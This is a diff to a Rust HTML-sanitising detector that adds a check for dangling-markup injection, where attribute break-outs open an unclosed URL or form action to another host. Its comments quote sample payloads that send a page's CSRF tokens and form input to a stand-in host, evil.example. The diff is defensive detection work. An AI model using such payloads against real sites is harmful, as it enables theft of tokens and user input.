@@ -3,6 +3,9 @@
 //! `<a href="https://...">`, `<img src="photo.jpg">`) passes.
 
 use std::ops::Range;
+use std::sync::LazyLock;
+
+use memchr::memmem::Finder;
 
 use super::js::{self, Mode};
 use super::tokenizer::{eq_ci, is_ws, Attrs, Tag, Token, Tokenizer};
@@ -246,7 +249,76 @@ pub(crate) fn judge(src: &[u8], depth: u8) -> Option<Found> {
         return best;
     }
     keep(&mut best, split_opener(src));
+    keep(&mut best, dangling(src));
     best
+}
+
+/// Whether a URL points at another host: `//host`, `\\host` (browsers
+/// read it as `//`), or an absolute `http(s):` / `ftp:` URL.
+fn remote(url: &[u8]) -> bool {
+    let t = url.trim_ascii_start();
+    t.starts_with(b"//")
+        || t.starts_with(b"\\\\")
+        || value::scheme(t).is_some_and(|(s, _)| matches!(&s[..], b"http" | b"https" | b"ftp"))
+}
+
+/// Tags after an attribute break-out (`">`, `'>`) that steal the page
+/// rather than run script: dangling markup, a quoted URL to another host
+/// left open to the end of the value (`"><img src='//evil.example/?`), so
+/// the browser sends everything up to the page's next quote (a CSRF token,
+/// a secret) as part of the URL; and a form posting to another host
+/// (`"><form action=//evil.example>`), which the page's own fields and the
+/// user's typing then fill. Text does not close a tag and open another,
+/// and no finished markup leaves a URL's quote open.
+fn dangling(src: &[u8]) -> Option<Found> {
+    static BREAKOUTS: LazyLock<[Finder<'static>; 2]> = LazyLock::new(|| {
+        [
+            Finder::new(b"\">").into_owned(),
+            Finder::new(b"'>").into_owned(),
+        ]
+    });
+    if BREAKOUTS.iter().all(|f| f.find(src).is_none()) {
+        return None;
+    }
+    // `"` or `'`, then `>`, then (after whitespace) the tag's `<`.
+    let after_breakout = |lt: usize| {
+        let before = src[..lt].trim_ascii_end();
+        before.len() >= 2
+            && before[before.len() - 1] == b'>'
+            && matches!(before[before.len() - 2], b'"' | b'\'')
+    };
+    for tok in Tokenizer::new(src) {
+        let Token::Tag(tag) = tok else {
+            continue;
+        };
+        if tag.end || !after_breakout(tag.span.start) {
+            continue;
+        }
+        let (nbuf, nlen) = lower(src, &tag.name);
+        let name = &nbuf[..nlen];
+        for attr in Attrs::new(src, tag.attrs.clone()) {
+            let Some(vr) = attr.value.clone() else {
+                continue;
+            };
+            let (abuf, alen) = lower(src, &attr.name);
+            let aname = &abuf[..alen];
+            let v = decode_refs(&src[vr.clone()]);
+            let open = vr.end == src.len()
+                && vr.start > 0
+                && matches!(src[vr.start - 1], b'"' | b'\'' | b'`');
+            // `<meta http-equiv=refresh content='0;url=//evil.example/?`
+            let url = match search::find_ci(&v, b"url=") {
+                Some(at) if aname == b"content" => &v[at + 4..],
+                _ => &v[..],
+            };
+            let leak = open && is_in(URL_ATTRS, aname) && remote(url);
+            let hijack = name == b"form" && aname == b"action" && remote(url);
+            if leak || hijack {
+                return Some(Found::new("xss.dangling_markup", 6, tag.span.start..vr.end));
+            }
+        }
+    }
+    None
 }
 
 /// Element names worth spelling in pieces: they run, embed, load or take
